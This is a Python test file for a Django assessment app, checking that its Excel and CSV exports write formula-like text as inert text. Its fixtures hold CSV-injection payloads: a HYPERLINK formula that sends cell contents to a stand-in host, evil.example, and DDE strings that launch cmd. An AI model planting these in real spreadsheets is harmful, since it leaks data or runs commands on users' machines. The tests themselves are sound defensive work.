"""No export carries a live spreadsheet formula, whatever the framework or the units say.

An administrator's framework title, a unit's name or a rule's message may begin with
=, +, -, @, a tab or a carriage return; opened in Excel such a cell would run. Every
export writes them as text.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from chiso import engine
from chiso.assessments import excel
from chiso.lib.safe_cells import cell_text

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def hostile_framework() -> engine.Framework:
    from pathlib import Path

    from django.conf import settings

    text = (Path(settings.BASE_DIR) / "tests" / "fixtures" / "mini-commune.yaml").read_text()
    text = text.replace('"Bộ tiêu chí thử nghiệm cấp xã"', "'" + HOSTILE.replace("'", "''") + "'")
    text = text.replace('"Số hồ sơ TTHC tiếp nhận trực tuyến"', "\"+1+cmd|' /C calc'!A0\"")
    text = text.replace(
        '"Số hồ sơ trực tuyến không thể lớn hơn tổng số hồ sơ"', "\"@SUM(1+1)*cmd|' /C calc'!A0\""
    )
    return engine.parse_framework(text)


def formulas(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would compute."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_a_framework_title_like_a_formula_is_text_in_the_values_template():
    from chiso.lib.uploads import workbook_bytes

    framework = hostile_framework()
    rows = [excel.UnitFigures("-14758", "=cmd|' /C calc'!A0", {"hs_tt": 5})]
    content = workbook_bytes(excel.build_template(framework, rows, heading=HOSTILE))
    assert formulas(content) == []
    assert HOSTILE in texts(content)
    assert "=cmd|' /C calc'!A0" in texts(content)


def test_the_criteria_workbook_writes_formula_like_text_as_text():
    from chiso.frameworks.excel import framework_to_workbook, workbook_bytes

    content = workbook_bytes(framework_to_workbook(hostile_framework()))
    assert formulas(content) == []
    assert HOSTILE in texts(content)


def test_the_criteria_workbook_download_has_no_live_formula(login, tuan, client):
    from pathlib import Path

    from django.conf import settings

    from chiso.assessments.services import store_framework

    text = (Path(settings.BASE_DIR) / "tests" / "fixtures" / "mini-commune.yaml").read_text()
    text = text.replace('"Bộ tiêu chí thử nghiệm cấp xã"', "'=1+2'")
    stored = store_framework(text)  # a draft: the admin downloads it
    login(tuan)
    response = client.get(f"/frameworks/{stored.pk}/criteria.xlsx")
    assert response.status_code == 200
    assert formulas(response.content) == []
    assert "=1+2" in texts(response.content)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),
        ("Phường Hàm Rồng", "Phường Hàm Rồng"),
        ("", ""),
    ],
)
def test_csv_cells_that_would_run_get_an_apostrophe(text, written):
    assert cell_text(text) == written


def test_the_values_csv_keeps_negative_figures_as_numbers():
    framework = hostile_framework()
    rows = [excel.UnitFigures("14758", "x", {"hs_tt": -5})]
    lines = list(csv.reader(io.StringIO(excel.values_csv(framework, rows))))
    assert ["14758", "hs_tt", "-5"] in lines
